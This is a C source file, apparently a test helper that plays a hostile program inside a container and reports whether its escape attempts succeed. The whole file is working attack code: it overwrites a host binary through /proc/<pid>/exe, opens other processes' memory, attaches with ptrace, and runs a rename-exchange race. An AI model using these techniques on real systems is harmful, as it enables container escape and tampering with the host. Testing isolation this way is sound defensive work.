// What a hostile program inside a container does, as fast as it can. Static, for any image.
//
//   attacker overwrite DEV INO            opens /proc/<pid>/exe of every process; of one that is the file DEV:INO it keeps the
//                                        descriptor and opens it again for writing for as long as it is busy (ETXTBSY).
//                                        Prints "exe: <errno>" once, and appends to the file where it may.
//   attacker peek DEV                    looks into every process that is not executing a file of the file system DEV, its
//                                        own: what it can open there is the host's. Prints "leak <what>" once for each.
//   attacker swap A B                    exchanges two names for ever.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[300];

static const char* of(const char* pid, const char* name) {
  snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
  return path;
}

// The kept file is busy while it is executed; afterwards it is writable, or never.
static void overwrite_file(int fd) {
  int out = -1;
  do {
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    out = open(path, O_WRONLY | O_APPEND);
  } while (out < 0 && errno == ETXTBSY);
  const int error = out < 0 ? errno : 0;
  if (out >= 0 && write(out, "overwritten", 11) != 11) perror("write");
  printf("exe: %d\n", error);
  fflush(stdout);
  exit(0);
}

// Who may not be looked into yet is stopped and let go on again, so that it moves in small steps.
static int open_slowly(const char* pid) {
  int fd = open(of(pid, "exe"), O_RDONLY);
  for (int i = 0; fd < 0 && errno == EACCES && i < 5000; i++) {
    kill(atoi(pid), SIGCONT);
    kill(atoi(pid), SIGSTOP);
    fd = open(of(pid, "exe"), O_RDONLY);
  }
  kill(atoi(pid), SIGCONT);
  return fd;
}

static void overwrite(const char* pid, dev_t device, ino_t inode) {
  const int fd = open_slowly(pid);
  struct stat status;
  if (fd < 0) return;
  if (fstat(fd, &status) == 0 && status.st_dev == device && status.st_ino == inode) overwrite_file(fd);
  close(fd);
}

static void leak(const char* what) {
  static char told[1000];
  if (strstr(told, what) != NULL) return;
  strcat(told, what);
  printf("leak %s\n", what);
  fflush(stdout);
}

static int is_foreign(const char* file, dev_t device) {
  struct stat status;
  return stat(file, &status) == 0 && status.st_dev != device;
}

static void peek(const char* pid, dev_t device) {
  if (is_foreign(of(pid, "exe"), device)) leak("exe");
  if (is_foreign(of(pid, "root"), device)) leak("root");
  if (is_foreign(of(pid, "cwd"), device)) leak("cwd");
  const int before = is_foreign(of(pid, "exe"), device);
  const int memory = open(of(pid, "mem"), O_RDWR);
  if (memory >= 0) {
    if (before && is_foreign(of(pid, "exe"), device)) leak("mem");
    close(memory);
  }
  if (before && ptrace(PTRACE_ATTACH, atoi(pid), 0, 0) == 0) {
    leak("ptrace");
    waitpid(atoi(pid), NULL, __WALL);
    ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
  }
}

// A new process is stopped for a look again and again, so that it moves in small steps; not for ever, or it gets nowhere.
static void peek_slowly(const char* pid, dev_t device) {
  static unsigned char looks[1 << 22];
  const int number = atoi(pid);
  if (looks[number] < 100) {
    looks[number]++;
    kill(number, SIGSTOP);
    peek(pid, device);
    kill(number, SIGCONT);
  }
}

int main(int argc, char** argv) {
  if (argc == 4 && strcmp(argv[1], "swap") == 0) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
  }
  if (argc < 3) return 2;
  const dev_t device = strtoul(argv[2], NULL, 10);
  const ino_t inode = argc > 3 ? strtoul(argv[3], NULL, 10) : 0;
  const int own = getpid();
  printf("ready\n");
  fflush(stdout);
  for (;;) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      const int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == own) continue;
      if (inode != 0)
        overwrite(entry->d_name, device, inode);
      else
        peek_slowly(entry->d_name, device);
    }
    closedir(proc);
  }
}
